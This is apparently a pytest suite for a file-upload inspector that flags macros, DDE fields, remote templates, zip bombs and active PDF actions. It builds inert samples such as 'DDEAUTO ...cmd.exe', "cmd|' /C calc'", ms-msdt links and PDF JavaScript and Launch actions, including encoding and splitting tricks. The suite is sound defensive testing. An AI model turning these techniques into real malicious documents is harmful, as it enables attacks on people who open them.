"""The inspection of strangers' files: active content is found however it is hidden, ordinary files are accepted."""

import io
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import partial

import pikepdf
import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st
from pikepdf import Array, Dictionary, Name, String
from PIL import ImageFile

from reports.files.file_types import Format
from reports.files.inspection import LIMITS, Suspect, Trouble, examine, inspect, office
from reports.files.inspection.parts import is_near
from tests import samples
from tests.prove import mutated
from tests.samples import body, changed, default, docx, related, types, zipped

EXE = b"MZ" + bytes(600)
RELATIONS = "word/_rels/document.xml.rels"
SHEET = "xl/worksheets/sheet1.xml"
OVERRIDE = '<Override PartName="/{}" ContentType="{}"/>'


@pytest.fixture(scope="module", autouse=True)
def as_in_the_child() -> Iterator[None]:
    """Let Pillow refuse pictures that are cut short, as in the child: WeasyPrint has it decode them in this process."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", False)
        yield


def found(data: bytes) -> Format | Trouble:
    """What inspect() finds, without a process of its own."""
    try:
        return examine(data)
    except Suspect as suspect:
        return suspect.trouble


def leads(kind: str, target: str, mode: str = "External") -> bytes:
    return docx(**{RELATIONS: related(kind, target, mode)})


def field(*codes: str) -> bytes:
    """A Word file with a field whose code is split into so many runs."""
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return docx(**{"word/document.xml": body(f"{BEGIN}{runs}{END}")})


def formula(text: str, element: str = "f") -> bytes:
    return changed(samples.xlsx(), **{SHEET: f"<worksheet><c><{element}>{text}</{element}></c></worksheet>"})


def book(**parts: str | bytes) -> bytes:
    return changed(samples.xlsx(), **parts)


def typed(name: str, kind: str, content: str | bytes = "<x/>") -> bytes:
    return docx(OVERRIDE.format(name, kind), **{name: content})


VBA = "application/vnd.ms-office.vbaProject"
SHEETS = "application/vnd.openxmlformats-officedocument.spreadsheetml"
TYPES = types(samples.MAIN.format(samples.WORD))
PRINTERS = f"{SHEETS}.printerSettings"
PRINTER = default("bin", PRINTERS)
WORKBOOK = default("xlsx", f"{SHEETS}.sheet")
BEGIN, END = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
NESTED = f"{BEGIN}{BEGIN}<w:instrText>QUOTE 68 68 69</w:instrText>{END}<w:instrText> c:\\x</w:instrText>{END}"
PREFIXED = (("<R", "<r:R"), ("</R", "</r:R"), ("xmlns=", "xmlns:r="))
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"


def prefixed(xml: str) -> str:
    for old, new in PREFIXED:
        xml = xml.replace(old, new)
    return xml


OFFICE_FILES = {
    "a program": (docx(default("bin", VBA), **{"word/vbaProject.bin": b"x"}), Trouble.MACROS),
    "a program by another name": (docx(default("bin", VBA), **{"word/media/1.bin": b"x"}), Trouble.MACROS),
    "a program's type in references": (
        docx(default("bin", "application/vnd.ms-office.vba&#80;roject"), **{"word/x.bin": b"x"}),
        Trouble.MACROS,
    ),
    "a program's type behind 256 KB": (
        docx(" " * 300_000 + default("bin", VBA), **{"word/x.bin": b"x"}),
        Trouble.MACROS,
    ),
    "a program's type in UTF-16": (
        changed(
            docx(**{"word/x.bin": b"x"}),
            **{"[Content_Types].xml": types(samples.MAIN.format(samples.WORD), default("bin", VBA)).encode("utf-16")},
        ),
        Trouble.MACROS,
    ),
    "a program's type for a name in other letters": (
        docx(PRINTER, OVERRIDE.format("word/%76ba.bin", VBA), **{"word/vba.bin": "x"}),
        Trouble.MACROS,
    ),
    "a program without a type": (docx(**{"word/vbaProject.bin": EXE}), Trouble.EMBEDDED),
    "a program that is related": (leads("vbaProject", "vbaProject.bin", "Internal"), Trouble.MACROS),
    "a macro document": (
        changed(docx(), **{"[Content_Types].xml": types("application/vnd.ms-word.document.macroEnabled.main+xml")}),
        Trouble.MACROS,
    ),
    "a sheet of Excel 4 macros": (
        typed("xl/m.xml", "application/vnd.ms-excel.macrosheet+xml", "<xm:macrosheet xmlns:xm='x'/>"),
        Trouble.MACROS,
    ),
    "a sheet of macros that is related": (leads("xlMacrosheet", "m.xml", "Internal"), Trouble.MACROS),
    "a name that is an Excel 4 macro": (
        book(**{"xl/workbook.xml": "<w><definedName name='Auto_Open' xlm='1'>1</definedName></w>"}),
        Trouble.MACROS,
    ),
    "a remote template": (leads("attachedTemplate", "https://contoh.test/a.dotm"), Trouble.LINKED),
    "a template on another machine": (leads("attachedTemplate", r"file:///\\contoh\a\b.dotm"), Trouble.LINKED),
    "a template in references": (leads("attachedTemplate", "&#104;ttps://contoh.test/a.dotm"), Trouble.LINKED),
    "a remote template in UTF-16": (
        docx(**{RELATIONS: related("attachedTemplate", "https://contoh.test/a.dotm").encode("utf-16")}),
        Trouble.LINKED,
    ),
    "a remote template with another prefix": (
        docx(**{RELATIONS: prefixed(related("attachedTemplate", "http://contoh.test/a"))}),
        Trouble.LINKED,
    ),
    "a remote object": (leads("oleObject", "mhtml:http://contoh.test!x-usc:http://contoh.test"), Trouble.EMBEDDED),
    "a remote picture": (leads("image", "http://contoh.test/a.png"), Trouble.LINKED),
    "a remote picture without a relationship": (
        docx(**{"word/document.xml": body("<w:pict><v:imagedata src='http://contoh.test/a.png'/></w:pict>")}),
        Trouble.LINKED,
    ),
    "relationships that say they are settings of a printer": (
        changed(
            leads("attachedTemplate", "https://contoh.test/a.dotm"),
            **{"[Content_Types].xml": TYPES.replace(f"{samples.RELS}+xml", PRINTERS)},
        ),
        Trouble.LINKED,
    ),
    "XML that says it is settings of a printer": (
        docx(PRINTER, **{"word/a.bin": related("frame", "http://contoh.test").encode("utf-16")}),
        Trouble.EMBEDDED,
    ),
    "a remote frame": (leads("frame", "http://contoh.test/a.htm"), Trouble.LINKED),
    "a link that runs": (leads("hyperlink", "ms-msdt:/id"), Trouble.LINKED),
    "a link to a script": (leads("hyperlink", "javascript:alert(1)"), Trouble.LINKED),
    "a source of letters": (leads("mailMergeSource", "file:///C:/a.mdb"), Trouble.LINKED),
    "another document's text": (leads("aFChunk", "a.htm", "Internal"), Trouble.LINKED),
    "a DDE field": (field("DDEAUTO c:\\windows\\system32\\cmd.exe"), Trouble.LINKED),
    "a DDE field in pieces": (field("DD", "EAU", "TO c:\\x"), Trouble.LINKED),
    "a DDE field in quotes": (field(' "dde" c:\\x'), Trouble.LINKED),
    "a DDE field in references": (field("&#68;DE c:\\x"), Trouble.LINKED),
    "a simple DDE field": (
        docx(**{"word/document.xml": body('<w:fldSimple w:instr="DDE excel x"/>')}),
        Trouble.LINKED,
    ),
    "a field that another one names": (
        docx(**{"word/document.xml": body(NESTED)}),
        Trouble.LINKED,
    ),
    "a field that fetches": (field('INCLUDEPICTURE "http://contoh.test/a.png"'), Trouble.LINKED),
    "DDE in a formula": (formula("cmd|' /C calc'!A0"), Trouble.LINKED),
    "DDE in a rule": (formula("MSEXCEL|'a'!b", "formula1"), Trouble.LINKED),
    "a formula that fetches": (formula('_xlfn.WEBSERVICE("http://contoh.test")'), Trouble.LINKED),
    "a DDE link": (
        book(**{"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink ddeService='cmd'/></externalLink>"}),
        Trouble.LINKED,
    ),
    "a connection": (
        changed(typed("xl/connections.xml", f"{SHEETS}.connections+xml")),
        Trouble.LINKED,
    ),
    "an embedded object": (
        docx(default("bin", "application/vnd.openxmlformats-officedocument.oleObject"), **{"word/o.bin": "x"}),
        Trouble.EMBEDDED,
    ),
    "an old file behind a harmless type": (
        docx(PRINTER, **{"word/o.bin": samples.xls()}),
        Trouble.EMBEDDED,
    ),
    "a program behind a harmless type": (
        docx(PRINTER, **{"word/o.bin": EXE}),
        Trouble.EMBEDDED,
    ),
    "a program that says it is a picture": (docx(default("png", "image/png"), **{"word/a.png": EXE}), Trouble.EMBEDDED),
    "an embedded program": (docx(default("exe", "application/octet-stream"), **{"word/a.exe": EXE}), Trouble.EMBEDDED),
    "an embedded page": (docx(default("htm", "text/html"), **{"word/a.htm": "<script/>"}), Trouble.EMBEDDED),
    "a workbook with a program, embedded": (
        docx(WORKBOOK, **{"word/a.xlsx": book(**{"xl/vbaProject.bin": EXE})}),
        Trouble.EMBEDDED,
    ),
    "a workbook in a workbook in a document": (
        docx(
            WORKBOOK,
            **{"word/a.xlsx": docx(WORKBOOK, **{"word/a.xlsx": samples.xlsx()})},
        ),
        Trouble.EMBEDDED,
    ),
    "a control": (leads("control", "activeX1.xml", "Internal"), Trouble.EMBEDDED),
    "an entity": (
        docx(**{"word/document.xml": '<!DOCTYPE d [<!ENTITY a "b">]><d>&a;</d>'}),
        Trouble.HEAVY,
    ),
    "no XML": (docx(**{"word/document.xml": "<w:document>"}), Trouble.DAMAGED),
    "an encoding that nobody knows": (
        docx(**{"word/document.xml": b'<?xml version="1.0" encoding="utf-7"?><d>+ADw-</d>'}),
        Trouble.DAMAGED,
    ),
    "two types for one part": (
        docx(OVERRIDE.format("word/a.xml", "text/xml"), OVERRIDE.format("WORD/a.xml", "application/xml")),
        Trouble.HEAVY,
    ),
    "a mere archive": (zipped({"a.txt": "hai"}), Trouble.UNKNOWN),
    "a presentation": (
        changed(docx(), **{"[Content_Types].xml": types(SLIDES)}),
        Trouble.UNKNOWN,
    ),
}  # fmt: skip


@pytest.mark.parametrize("what", OFFICE_FILES)
def test_office_files_that_act_or_hide_something(what: str) -> None:
    data, trouble = OFFICE_FILES[what]
    assert found(data) is trouble


def twice(first: str, second: str) -> bytes:
    made = io.BytesIO(docx())
    with zipfile.ZipFile(made, "a") as archive, pytest.warns() if first == second else pytest.MonkeyPatch.context():
        archive.writestr(first, "<a/>")
        archive.writestr(second, "<b/>")
    return made.getvalue()


# Made by their tests: one packs fifty megabytes, and every process of a run reads this file, whoever gets the test.
AMBIGUOUS: dict[str, Callable[[], bytes]] = {
    "one name twice": lambda: twice("word/a.xml", "word/a.xml"),
    "letters": lambda: twice("word/a.xml", "word/A.XML"),
    "percent": lambda: twice("word/a.xml", "word/%61.xml"),
    "backslash": lambda: twice("word/a.xml", "word\\b.xml"),
    "stroke": lambda: twice("word/a.xml", "/word/b.xml"),
    "entries": lambda: zipped({f"{number}.xml": "<a/>" for number in range(office.MOST_ENTRIES + 1)}),
    "packed otherwise": lambda: zipped({"[Content_Types].xml": " " * 50_000_000}, zipfile.ZIP_LZMA),
    "two archives": lambda: samples.docx() + samples.docx(),
    "bomb": lambda: docx(**{"word/document.xml": body(" " * (office.MOST_UNPACKED + 1))}),
}


@pytest.mark.parametrize("what", AMBIGUOUS)
def test_archives_in_which_readers_could_find_different_things(what: str) -> None:
    assert found(AMBIGUOUS[what]()) is Trouble.HEAVY


def rich_workbook() -> bytes:
    """A workbook with nearly everything that people put into one."""
    made = io.BytesIO()
    with xlsxwriter.Workbook(made) as workbook:
        sheet, picture = workbook.add_worksheet("Rekap"), {"image_data": io.BytesIO(samples.image())}
        sheet.write_url("A1", "https://lumajangkab.test")
        sheet.write_url("A2", r"external:c:\dokumen\rekap.xlsx#Rekap!A1")
        sheet.write_url("A3", "internal:Rekap!A1")
        sheet.write_comment("A4", "periksa")
        sheet.write_formula("A5", '=SUM(B1:B3)&"a|b"')
        sheet.insert_image("C1", "a.png", picture)
        sheet.data_validation("D1", {"validate": "list", "source": ["a", "b"]})
        sheet.add_table("F1:G5")
        sheet.set_header("&L&G", {"image_left": "a.png", "image_data_left": io.BytesIO(samples.image())})
        sheet.insert_textbox("A9", "catatan")
        sheet.conditional_format("B1:B9", {"type": "data_bar"})
        sheet.add_sparkline("H1", {"range": "Rekap!A1:A5"})
        chart = workbook.add_chart({"type": "column"})
        chart.add_series({"values": "=Rekap!$A$1:$A$5"})
        sheet.insert_chart("J1", chart)
        workbook.define_name("Nama", "=Rekap!$A$1")
    return made.getvalue()


def linked_workbook() -> bytes:
    """A workbook with a formula that reads another workbook of the same person."""
    link = '<externalLink xmlns:r="r"><externalBook r:id="rId1"/></externalLink>'
    rels = "xl/externalLinks/_rels/externalLink1.xml.rels"
    return book(
        **{"xl/externalLinks/externalLink1.xml": link, rels: related("externalLinkPath", "Rekap%20TW%20I.xlsx")}
    )


@pytest.mark.parametrize(
    ("data", "form"),
    [
        (docx(), Format.DOCX),
        (samples.xlsx(), Format.XLSX),
        (rich_workbook(), Format.XLSX),
        (linked_workbook(), Format.XLSX),
        (docx(WORKBOOK, **{"word/embeddings/a.xlsx": samples.xlsx()}), Format.DOCX),
        (docx(default("png", "image/png"), **{"word/media/a.png": samples.image()}), Format.DOCX),
        (docx(PRINTER, **{"word/p.bin": b"P\0r\0"}), Format.DOCX),
        (leads("attachedTemplate", "file:///C:/Users/wulan/surat.dotx"), Format.DOCX),
        (leads("hyperlink", "mailto:wulan@contoh.test"), Format.DOCX),
        (field("PAGE \\* MERGEFORMAT"), Format.DOCX),
        (field("HYPERLINK \"https://contoh.test\""), Format.DOCX),
        (docx(**{"word/document.xml": body("<w:t>DDE, DDEAUTO dan cmd|calc</w:t>").encode("utf-16")}), Format.DOCX),
    ],
    ids=[
        "document", "workbook", "rich", "linked", "chart", "picture", "printer", "template", "mail", "page", "link",
        "words",
    ],
)  # fmt: skip
def test_ordinary_files_are_accepted(data: bytes, form: Format) -> None:
    assert found(data) is form


@pytest.mark.parametrize(
    ("target", "near"),
    [
        ("rekap.xlsx", True),
        ("../a/rekap.xlsx#Rekap!A1", True),
        ("/Users/wulan/rekap.xlsx", True),
        (r"C:\dokumen\rekap.xlsx", True),
        ("file:///C:/dokumen/rekap.xlsx", True),
        ("#Rekap!A1:B2", True),
        (r"\\server\a.xlsx", False),
        ("//server/a.xlsx", False),
        ("file://server/a.xlsx", False),
        (r"file:///\\server\a.xlsx", False),
        ("https://contoh.test", False),
        ("mhtml:a", False),
        (" http://contoh.test", False),
    ],
)
def test_targets_on_this_machine_and_on_others(target: str, near: bool) -> None:
    assert is_near(target) is near


# ---- PDFs


def pdf(make=None, **how: object) -> bytes:
    document, made = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    if make:
        make(document)
    document.save(made, **how)
    return made.getvalue()


def root(document: pikepdf.Pdf, **entries: object) -> None:
    for key, value in entries.items():
        document.Root[f"/{key}"] = value


def note(document: pikepdf.Pdf, **entries: object) -> None:
    made = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries)
    document.pages[0].Annots = Array([document.make_indirect(made)])


def acts(document: pikepdf.Pdf, **entries: object) -> None:
    note(document, Subtype=Name.Link, A=Dictionary(**entries))


def attach(name: str, data: bytes):
    return lambda document: document.attachments.__setitem__(name, data)


PAGE = {"S": Name.URI, "URI": String("http://contoh.test")}
SCRIPT = {"S": Name.JavaScript, "JS": String("app.alert(1)")}


@pytest.mark.parametrize(
    ("data", "trouble"),
    [
        (pdf(partial(root, OpenAction=Dictionary(**SCRIPT))), Trouble.ACTIVE),
        (pdf(partial(acts, **SCRIPT), object_stream_mode=pikepdf.ObjectStreamMode.generate), Trouble.ACTIVE),
        (pdf(partial(acts, S=Name.JavaScript)).replace(b"/JavaScript", b"/J#61vaScript"), Trouble.ACTIVE),
        (pdf(partial(root, Names=Dictionary(JavaScript=Dictionary()))), Trouble.ACTIVE),
        (pdf(partial(acts, S=Name.Launch, F=String("cmd.exe"))), Trouble.ACTIVE),
        (pdf(partial(acts, S=Name.SubmitForm, F=String("http://contoh.test"))), Trouble.ACTIVE),
        (pdf(partial(acts, S=Name.GoToR, F=String(r"\\contoh\a.pdf"))), Trouble.ACTIVE),
        (pdf(partial(acts, S=Name.GoToE)), Trouble.ACTIVE),
        (pdf(partial(acts, S=Name.URI, URI=String("javascript:alert(1)"))), Trouble.ACTIVE),
        (pdf(partial(acts, S=Name.URI, URI=String("file:///c:/a.exe"))), Trouble.ACTIVE),
        (pdf(partial(root, OpenAction=Dictionary(**PAGE))), Trouble.ACTIVE),
        (pdf(partial(root, AA=Dictionary(WC=Dictionary(**PAGE)))), Trouble.ACTIVE),
        (pdf(partial(note, Subtype=Name.RichMedia)), Trouble.ACTIVE),
        (pdf(partial(note, Subtype=Name.Screen)), Trouble.ACTIVE),
        (pdf(partial(root, AcroForm=Dictionary(XFA=String("<xdp/>")))), Trouble.ACTIVE),
        (pdf(attach("a.exe", EXE)), Trouble.ATTACHED),
        (pdf(attach("a.json", EXE)), Trouble.ATTACHED),
        (pdf(attach("a.html", b"<script/>")), Trouble.ATTACHED),
        (pdf(attach("a.xlsx", OFFICE_FILES["a program"][0])), Trouble.ATTACHED),
        (pdf(attach("a.xlsx", samples.image())), Trouble.ATTACHED),
        (pdf(attach("a.pdf", pdf(partial(acts, **SCRIPT)))), Trouble.ATTACHED),
        (pdf(attach("a.pdf", pdf(attach("a.json", b"{}")))), Trouble.ATTACHED),
        (pdf(encryption=pikepdf.Encryption(owner="a", user="b")), Trouble.LOCKED),
        (pdf()[:-40], Trouble.DAMAGED),
        (b"%PDF-1.7\n" + bytes(9000) + b"%%EOF", Trouble.DAMAGED),
        (pdf(lambda document: document.pages.__delitem__(0)), Trouble.DAMAGED),
    ],
)  # fmt: skip
def test_pdfs_that_act_or_carry_something(data: bytes, trouble: Trouble) -> None:
    assert found(data) is trouble


@pytest.mark.parametrize(
    "data",
    [
        samples.pdf(),
        pdf(partial(acts, S=Name.URI, URI=String("https://contoh.test/a?b=c"))),
        pdf(partial(root, OpenAction=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))),
        pdf(partial(root, Title=String("/JavaScript /Launch"))),
        pdf(attach("laporan.json", b'{"a": 1}')),
        pdf(attach("tabel.xlsx", samples.xlsx())),
        pdf(encryption=pikepdf.Encryption(owner="a", user="")),
    ],
    ids=["plain", "link", "first page", "words", "our json", "our tables", "not to be copied"],
)
def test_ordinary_pdfs_are_accepted(data: bytes) -> None:
    assert found(data) is Format.PDF


# ---- pictures, and old files


def png(width: int, height: int, data: bytes = b"") -> bytes:
    def chunk(name: bytes, content: bytes) -> bytes:
        return len(content).to_bytes(4) + name + content + zlib.crc32(name + content).to_bytes(4)

    size = width.to_bytes(4) + height.to_bytes(4) + b"\x08\x02\0\0\0"
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


@pytest.mark.parametrize(
    ("data", "verdict"),
    [
        (samples.image("JPEG"), Format.JPEG),
        # Phones append data of their own after the picture's end.
        (samples.image("JPEG") + b"SEFT" * 200, Format.JPEG),
        (samples.image(), Format.PNG),
        (samples.image("JPEG")[:-100], Trouble.DAMAGED),
        (samples.image()[:-20], Trouble.DAMAGED),
        (png(9, 9, bytes(9)), Trouble.DAMAGED),
        (png(20_000, 20_000, bytes(9)), Trouble.WIDE),
        (b"\xff\xd8\xff\xd9", Trouble.DAMAGED),
    ],
)
def test_pictures_are_decoded_whole(data: bytes, verdict: Format | Trouble) -> None:
    assert found(data) is verdict


@pytest.mark.parametrize(
    ("data", "trouble"),
    [
        (samples.doc(), Trouble.OLD),
        (samples.xls(), Trouble.OLD),
        (samples.compound({"EncryptedPackage": 2, "EncryptionInfo": 2}), Trouble.LOCKED),
        (b"", Trouble.UNKNOWN),
        (EXE, Trouble.UNKNOWN),
        (b"<html><script>alert(1)</script>", Trouble.UNKNOWN),
        (b"GIF89a" + docx(), Trouble.UNKNOWN),
    ],
)
def test_files_that_are_refused_by_their_first_bytes(data: bytes, trouble: Trouble) -> None:
    assert inspect(data) is trouble


def test_the_sandbox_says_the_same() -> None:
    for data in (samples.pdf(), rich_workbook(), OFFICE_FILES["a remote template"][0], png(9, 9)):
        assert inspect(data) is found(data)


def test_a_file_that_takes_too_long_is_refused_by_the_limit_alone() -> None:
    """A small document with megabytes of XML; with more time it is accepted. By the clock, it may be tried again."""
    data = docx(**{"word/document.xml": body("<w:t/>" * 3_000_000)})
    assert len(data) < 100_000
    # No machine starts an interpreter and reads all that in so short a time.
    assert inspect(data, replace(LIMITS, wall_seconds=0.05)) is Trouble.BUSY
    assert inspect(data, replace(LIMITS, wall_seconds=120)) is Format.DOCX


# ---- anything at all

REAL = {
    Format.PDF: pdf(attach("tabel.xlsx", samples.xlsx())),
    Format.JPEG: samples.image("JPEG"),
    Format.PNG: samples.image("PNG"),
    Format.XLSX: rich_workbook(),
    Format.DOCX: docx(default("png", "image/png"), **{"word/media/a.png": samples.image()}),
}
SIGNATURES = (b"", b"%PDF-1.7", b"\xff\xd8\xff\xe0", b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\x89PNG\r\n")


@given(st.sampled_from(SIGNATURES), st.binary(max_size=4000))
def test_no_bytes_raise(signature: bytes, data: bytes) -> None:
    assert found(signature + data) in Trouble


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(list(Format)), st.data())
def test_no_broken_file_raises(form: Format, data: st.DataObject) -> None:
    broken = bytearray(REAL[form])
    for _ in range(data.draw(st.integers(1, 8))):
        broken[data.draw(st.integers(0, len(broken) - 1))] = data.draw(st.integers(0, 255))
    assert found(bytes(broken)) in (form, *Trouble)


@settings(max_examples=100, deadline=None)
@given(st.sampled_from(["word/document.xml", RELATIONS, "[Content_Types].xml"]), st.binary(max_size=300))
def test_no_part_raises(name: str, content: bytes) -> None:
    assert found(changed(docx(), **{name: content})) in (Format.DOCX, *Trouble)


@given(st.sampled_from(list(Format)), st.integers(2, 4))
def test_half_a_file_is_refused(form: Format, part: int) -> None:
    assert found(REAL[form][: len(REAL[form]) // part]) in Trouble


def test_two_hundred_mutated_files_get_a_verdict() -> None:
    """The sample of `python -m tests.prove.mutated`."""
    for data in mutated.files(200, mutated.SEED, list(REAL.values())):
        assert isinstance(found(data), Format | Trouble)
